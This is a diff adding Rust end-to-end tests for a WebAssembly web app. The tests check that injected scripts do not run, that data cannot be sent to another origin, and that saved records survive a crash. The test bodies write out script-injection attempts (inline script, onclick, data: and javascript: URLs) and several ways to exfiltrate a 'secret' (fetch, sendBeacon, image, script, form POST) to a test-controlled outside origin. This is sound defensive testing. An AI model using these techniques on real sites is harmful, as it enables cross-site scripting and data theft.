@@ -1,0 +1,149 @@
+//! Nothing leaves by itself, nothing foreign runs, and a crash does not take the work with it.
+
+use super::{Test, test};
+use crate::harness::site::Spoilt;
+use crate::harness::stage::Stage;
+use crate::record;
+use serde_json::{Value, json};
+
+pub const TESTS: &[Test] = &[
+    test!(foreign_script_does_not_run),
+    test!(nothing_can_be_sent_to_another_origin),
+    test!(after_a_crash_the_saved_record_can_be_downloaded),
+];
+
+fn foreign_script_does_not_run(stage: &Stage) {
+    let me = stage.person();
+    me.open("#/discussion");
+    let ran = me.browser.run_until_called(
+        "const done = arguments[arguments.length - 1];
+         const script = document.createElement('script');
+         script.textContent = 'document.documentElement.dataset.inline = 1';
+         document.body.append(script);
+         const button = document.createElement('button');
+         button.setAttribute('onclick', 'document.documentElement.dataset.handler = 1');
+         document.body.append(button);
+         button.click();
+         const data = document.createElement('script');
+         data.src = 'data:text/javascript,document.documentElement.dataset.data=1';
+         document.body.append(data);
+         const link = document.createElement('a');
+         link.href = 'javascript:void(document.documentElement.dataset.link=1)';
+         document.body.append(link);
+         link.click();
+         try { window.setTimeout('document.documentElement.dataset.evaluated = 1', 0); } catch {}
+         window.setTimeout(() => {
+           button.remove(); link.remove(); script.remove(); data.remove();
+           done(Object.keys(document.documentElement.dataset)
+             .filter((key) => ['inline', 'handler', 'data', 'link', 'evaluated'].includes(key)));
+         }, 300);",
+        vec![],
+    );
+    assert_eq!(
+        ran,
+        Ok(json!([])),
+        "what ran although the policy forbids it"
+    );
+    // The app itself still does.
+    me.type_into("Team Manager", "Still at work");
+    me.sees_it_saved();
+}
+
+fn nothing_can_be_sent_to_another_origin(stage: &Stage) {
+    let me = stage.person();
+    me.open("#/discussion");
+    let mark = format!("/leak/{}/{}/", stage.engine, stage.delivery);
+    let target = stage.world.elsewhere.origin() + &mark;
+    let outcome = me.browser.run_until_called(
+        "const [target, done] = arguments;
+         const out = {};
+         const tried = [];
+         const outcome = (name, promise) => tried.push(promise.then(
+           () => { out[name] = 'went through'; }, () => { out[name] = 'refused'; }));
+         const element = (tag, attribute) => new Promise((resolve, reject) => {
+           const e = document.createElement(tag);
+           e.onload = resolve; e.onerror = reject;
+           e[attribute] = target + tag;
+           if (tag === 'link') e.rel = 'stylesheet';
+           document.body.append(e);
+           setTimeout(reject, 1500);
+         });
+         outcome('fetch', fetch(target + 'fetch', { method: 'POST', body: 'secret' }));
+         outcome('no-cors', fetch(target + 'no-cors', { mode: 'no-cors' }));
+         outcome('img', element('img', 'src'));
+         outcome('script', element('script', 'src'));
+         outcome('link', element('link', 'href'));
+         try { navigator.sendBeacon(target + 'beacon', 'secret'); } catch {}
+         try {
+           const form = document.createElement('form');
+           form.action = target + 'form'; form.method = 'post';
+           const frame = document.createElement('iframe');
+           frame.name = 'e2e-form'; form.target = 'e2e-form';
+           document.body.append(frame, form);
+           form.submit();
+         } catch {}
+         Promise.all(tried).then(() => setTimeout(() => done(out), 200));",
+        vec![json!(target)],
+    );
+    let outcome = outcome.unwrap_or_else(Value::String);
+    let wanted = json!({
+        "fetch": "refused", "no-cors": "refused", "img": "refused",
+        "script": "refused", "link": "refused"
+    });
+    assert_eq!(outcome, wanted);
+    let arrived = stage.world.elsewhere.asked_for(&mark);
+    assert_eq!(
+        arrived,
+        Vec::<String>::new(),
+        "what arrived at another origin"
+    );
+}
+
+/// Keeps the module's exports where the test can reach them.
+const HOOK: &str = "<script>
+  for (const name of ['instantiate', 'instantiateStreaming']) {
+    const original = WebAssembly[name];
+    WebAssembly[name] = (...given) => original.apply(WebAssembly, given).then((made) => {
+      window.e2eExports = (made.instance || made).exports;
+      return made;
+    });
+  }
+</script>";
+
+fn after_a_crash_the_saved_record_can_be_downloaded(stage: &Stage) {
+    let me = stage.person_at(&Spoilt {
+        head: Some(HOOK.to_owned()),
+        ..Spoilt::default()
+    });
+    me.open("#/discussion");
+    me.type_into("Name of Organisation", "Saved before the crash");
+    me.sees_it_saved();
+    let before = me.stored();
+    // All of the app's memory becomes nonsense; what it does next cannot go well.
+    me.script(
+        "new Uint8Array(window.e2eExports.memory.buffer).fill(0xff);",
+        vec![],
+    );
+    me.press("Add a learning point");
+    me.sees_heading("Something went wrong on this page");
+    let rescue = record::parse_json(&me.download("Download what is saved on this device").text);
+    let rescued: Vec<String> = match &rescue {
+        Value::Object(all) => all
+            .values()
+            .map(|text| {
+                text.as_str()
+                    .map_or_else(|| text.to_string(), str::to_owned)
+            })
+            .collect(),
+        other => vec![other.to_string()],
+    };
+    assert!(
+        rescued
+            .iter()
+            .any(|text| text.contains("Saved before the crash")),
+        "{rescue}"
+    );
+    assert_eq!(me.stored(), before, "the crash wrote over what was saved");
+    me.reload();
+    me.reads("Name of Organisation", "Saved before the crash");
+}
